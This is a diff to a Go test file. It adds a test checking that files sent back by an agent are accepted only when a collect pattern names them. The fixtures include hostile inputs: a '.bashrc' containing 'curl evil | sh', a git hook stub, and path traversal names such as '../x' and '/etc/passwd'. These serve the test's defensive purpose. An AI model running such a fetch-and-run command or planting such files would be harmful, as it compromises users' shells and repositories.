@@ -101,11 +101,31 @@ func TestAccept(t *testing.T) {
 		Files: map[string][]byte{"ok.txt": []byte("ok"), "../x": nil, "/etc/passwd": nil, "a//b": nil, "a\x1bb": nil,
 			"big": make([]byte, MaxBytes+1)},
 		Skipped: []string{"l: a symbolic link, not followed", "\x1b[31mred"},
-	})
+	}, []string{"*"})
 	if len(res.Files) != 1 || res.Files["ok.txt"] != "ok" {
 		t.Errorf("accepted %q", slices.Sorted(maps.Keys(res.Files)))
 	}
 	if len(res.Skipped) != 7 || !slices.Contains(res.Skipped, "big: over the cap") || !slices.Contains(res.Skipped, `"\x1b[31mred"`) {
 		t.Errorf("skipped %q", res.Skipped)
+	}
+}
+
+// TestAcceptOnlyNamed: an agent that sends files the job's patterns do not
+// name (a hostile guest writing where --out DIR would put them: a shell's
+// start-up file, a git hook) gets none of them accepted; what the
+// patterns name, element by element as Walk matches, still is.
+func TestAcceptOnlyNamed(t *testing.T) {
+	res := Accept(Wire{Files: map[string][]byte{
+		"out/a.png": []byte("png"), "report.txt": []byte("r"), "out/x/b.png": []byte("deeper"),
+		".bashrc": []byte("curl evil | sh"), ".git/hooks/post-checkout": []byte("#!/bin/sh\n"),
+		"out/a.txt": []byte("other suffix"), "report.txt/x": nil,
+	}}, []string{"out/*.png", "report.txt", "*/[.]git"})
+	if got := slices.Sorted(maps.Keys(res.Files)); !slices.Equal(got, []string{"out/a.png", "report.txt"}) {
+		t.Errorf("accepted %q", got)
+	}
+	for _, n := range []string{".bashrc", ".git/hooks/post-checkout", "out/x/b.png", "out/a.txt", "report.txt/x"} {
+		if !slices.Contains(res.Skipped, show(n)+": named by no collect pattern") {
+			t.Errorf("skipped %q does not name %s", res.Skipped, n)
+		}
 	}
 }
